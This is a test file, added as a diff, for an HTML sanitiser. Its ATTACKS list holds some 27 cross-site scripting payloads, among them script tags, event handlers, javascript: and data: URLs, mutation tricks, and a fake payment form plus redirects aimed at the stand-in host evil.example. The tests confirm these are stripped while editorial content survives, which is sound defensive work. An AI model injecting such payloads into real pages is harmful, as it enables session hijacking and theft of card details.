@@ -1,0 +1,94 @@
+// @vitest-environment jsdom
+import { expect, test } from 'vitest';
+import { sanitise } from '#content/sanitise.ts';
+
+const ATTACKS = [
+  '<script>window.hit=1</script>',
+  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
+  '<img src=x onerror=window.hit=1>',
+  '<img src="/media/a.svg" onload="window.hit=1">',
+  '<svg onload=window.hit=1><script>window.hit=1</script></svg>',
+  '<math><mi xlink:href="javascript:window.hit=1">x</mi></math>',
+  '<a href="javascript:window.hit=1">x</a>',
+  '<a href=" jav&#x09;ascript:window.hit=1">x</a>',
+  '<a href="data:text/html,<script>window.hit=1</script>">x</a>',
+  '<a href="vbscript:x">x</a>',
+  '<form action="https://evil.example"><input name="pan" placeholder="Your PAN"><button>Pay</button></form>',
+  '<p style="position:fixed;inset:0" id="main" name="x" class="skip-link">x</p>',
+  '<style>body{display:none}</style>',
+  '<base href="https://evil.example/">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+  '<link rel="stylesheet" href="https://evil.example/x.css">',
+  '<iframe srcdoc="<script>parent.hit=1</script>"></iframe>',
+  '<iframe src="https://evil.example/youtube.com/embed/aqz-KE-bpKQ"></iframe>',
+  '<object data="x"></object><embed src="x">',
+  '<video src=x onerror=window.hit=1></video>',
+  '<details open ontoggle=window.hit=1>x</details>',
+  '<noscript><p title="</noscript><img src=x onerror=window.hit=1>"></noscript>',
+  '<template><script>window.hit=1</script></template>',
+  '<a href="https://ok.example" target=_blank onclick="window.hit=1" ping="https://evil.example">x</a>',
+  '<!--><img src=x onerror=window.hit=1>-->',
+  '<table background="https://evil.example/x"><td background="javascript:x">x',
+  '<p>a<textarea><img src=x onerror=window.hit=1></textarea></p>',
+];
+
+const FORBIDDEN_TAGS =
+  'script,style,form,input,button,textarea,select,iframe,object,embed,base,meta,link,svg,math,video,audio,template,noscript';
+
+test.each(ATTACKS)('%s leaves nothing that acts', (attack) => {
+  const page = `<main>${sanitise(`<p>before</p>${attack}<p>after</p>`)}</main>`;
+  const document = new DOMParser().parseFromString(page, 'text/html');
+  expect(
+    document.querySelector(
+      FORBIDDEN_TAGS.split(',')
+        .map((tag) => `main ${tag}`)
+        .join(),
+    ),
+  ).toBeNull();
+  for (const element of document.querySelectorAll('main *')) {
+    for (const { name, value } of element.attributes) {
+      expect(name).not.toMatch(/^on|^style$|^id$|^name$|^class$|^srcdoc$|^target$|^ping$|^background$/);
+      if (['href', 'src'].includes(name)) expect(value).toMatch(/^(?:https?:|mailto:|tel:|\/(?!\/)|#)/);
+    }
+  }
+  expect(document.querySelector('main')?.textContent).toContain('before');
+});
+
+test('what editors write stays: structure, tables, scripts of India, entities', () => {
+  const kept =
+    '<h2>निवेश</h2>\n<p lang="hi">दस्तावेज़ <strong>ध्यान</strong> से पढ़ें 🙂 &amp; &lt;b&gt;</p>\n<ul><li>एक</li></ul>';
+  expect(sanitise(kept)).toBe(kept);
+  expect(sanitise('<table><tr><th scope="row" style="x">a</th><td colspan="2">b</td></tr></table>')).toBe(
+    '<table><tr><th scope="row">a</th><td colspan="2">b</td></tr></table>',
+  );
+});
+
+test('the page keeps its only h1', () => {
+  expect(sanitise('<h1>Title</h1><h5>Small</h5>')).toBe('<h2>Title</h2><h4>Small</h4>');
+});
+
+test('pictures of this site are lazy and keep their size; others need a rule', () => {
+  const clean = sanitise(
+    '<img src="/media/sip.svg" alt="Steps" width="640" height="360"><img src="https://elsewhere.example/x.png">',
+  );
+  expect(clean).toContain('src="/media/sip.svg"');
+  expect(clean).toContain('width="640" height="360" loading="lazy" decoding="async"');
+  expect(clean).not.toContain('elsewhere');
+});
+
+test.each([
+  '<figure><div>\nhttps://www.youtube.com/watch?v=aqz-KE-bpKQ&amp;t=5\n</div></figure>',
+  '<iframe src="https://www.youtube.com/embed/aqz-KE-bpKQ" onload="x"></iframe>',
+  '<p>https://youtu.be/aqz-KE-bpKQ</p>',
+])('a film becomes a link to click: %s', (html) => {
+  const clean = sanitise(html);
+  expect(clean).toContain('<a class="video" href="https://www.youtube.com/watch?v=aqz-KE-bpKQ"');
+  expect(clean).not.toContain('<iframe');
+});
+
+test('2 MB of one paragraph, and a thousand open tags, are done in time', () => {
+  const started = performance.now();
+  sanitise(`<p>${'a plan & a date '.repeat(130_000)}</p>`);
+  sanitise('<div><b>'.repeat(1_000));
+  expect(performance.now() - started).toBeLessThan(5_000);
+});
